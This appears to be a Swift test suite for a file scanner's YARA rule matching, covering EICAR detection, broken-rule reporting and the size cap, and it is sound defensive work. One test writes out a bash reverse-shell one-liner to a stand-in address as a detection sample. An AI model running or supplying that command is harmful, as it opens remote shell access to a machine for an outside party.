import Foundation
import Testing
@testable import FileInspection

/// YARA through Debian's libyara, loaded at run time (scripts/test.sh installs libyara9): the
/// bundled rules find EICAR; a rule tagged suspicious weighs suspicious; a broken rule file is
/// named with its line and left out while the others load; files over the cap are not handed
/// to libyara.
@Suite("YARA")
struct YaraTests {
    static var bundled: String {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().deletingLastPathComponent().deletingLastPathComponent()
            .appendingPathComponent("rules/yara").path
    }

    @Test("libyara loads, and its rule layout is recognised")
    func library() throws {
        switch YaraLibrary.shared {
        case .success(let library): #expect(library.soname.hasPrefix("libyara.so"))
        case .failure(let error): Issue.record("libyara is missing (scripts/test.sh installs libyara9): \(error)")
        }
    }

    @Test("the bundled rules: EICAR is malicious, a reverse-shell script suspicious, a text file clean")
    func bundledRules() throws {
        let matcher = try YaraMatcher.load(directory: Self.bundled).get()
        #expect(matcher.rules.ruleCount == 2 && matcher.problems.isEmpty)
        let dir = try TempDir()
        let scanner = FileScanner(matchers: [matcher])
        let eicar = try scanner.scan(path: try dir.write("eicar.com", Data(FileScannerTests.eicar.utf8)))
        #expect(eicar.reasons.contains { $0.code == "yara" && $0.weight == .malicious && $0.detail.contains("EICAR_Test_File") })
        #expect(eicar.verdict == .malicious)
        #expect(eicar.yara.contains("2 rule(s) from 1 file(s)"))
        let shell = try scanner.scan(path: try dir.write("x.sh", Data("#!/bin/bash\nbash -i >& /dev/tcp/203.0.113.5/443 0>&1\n".utf8)))
        let yara = shell.reasons.filter { $0.code == "yara" }
        #expect(yara.count == 1 && yara.first?.weight == .suspicious && yara.first?.detail.contains("tags: suspicious") == true)
        let plain = try scanner.scan(path: try dir.write("notes.txt", Data("nothing to see\n".utf8)))
        #expect(plain.reasons.isEmpty && plain.verdict == .clean)
    }

    @Test("a broken rule file is named with its line and left out; the others load; a directory without rules says so")
    func brokenRules() throws {
        let dir = try TempDir()
        try dir.write("rules/good.yar", Data("rule Marker_Found { strings: $a = \"secmon-marker-123\" condition: $a }\n".utf8))
        try dir.write("rules/broken.yar", Data("rule Broken {\n  strings: $a = \"x\"\n  condition: $b\n}\n".utf8))
        try dir.write("rules/README.txt", Data("not a rule".utf8))
        let matcher = try YaraMatcher.load(directory: dir.path + "/rules").get()
        #expect(matcher.rules.sources == ["good.yar"])
        #expect(matcher.problems.count == 1 && matcher.problems[0].hasPrefix("broken.yar line ") && matcher.problems[0].contains("undefined string \"$b\""),
                "\(matcher.problems)")
        #expect(matcher.summary.contains("1 refused: broken.yar line"))
        let hit = try FileScanner(matchers: [matcher]).scan(path: try dir.write("f.bin", Data("xx secmon-marker-123 yy".utf8)))
        #expect(hit.verdict == .malicious && hit.reasons.first?.detail == "YARA rule Marker_Found matched")
        // Only broken rules: YARA is off, with every reason.
        try FileManager.default.removeItem(atPath: dir.path + "/rules/good.yar")
        guard case .failure(let error) = YaraMatcher.load(directory: dir.path + "/rules") else { Issue.record("broken rules loaded"); return }
        #expect(error.reason.contains("broken.yar line") && error.reason.contains("undefined string"))
        guard case .failure(let missing) = YaraMatcher.load(directory: dir.path + "/none") else { Issue.record("no directory loaded"); return }
        #expect(missing.reason.contains("no YARA rule directory"))
    }

    @Test("files over the cap are not handed to libyara, and say so")
    func cap() throws {
        let loaded = try YaraMatcher.load(directory: Self.bundled).get()
        let capped = YaraMatcher(rules: loaded.rules, maxBytes: 16, directory: loaded.directory, problems: [])
        let dir = try TempDir()
        let report = try FileScanner(matchers: [capped]).scan(path: try dir.write("eicar.com", Data(FileScannerTests.eicar.utf8)))
        #expect(report.reasons.map(\.code) == ["yara-skipped"])
        #expect(report.verdict == .clean)
    }
}
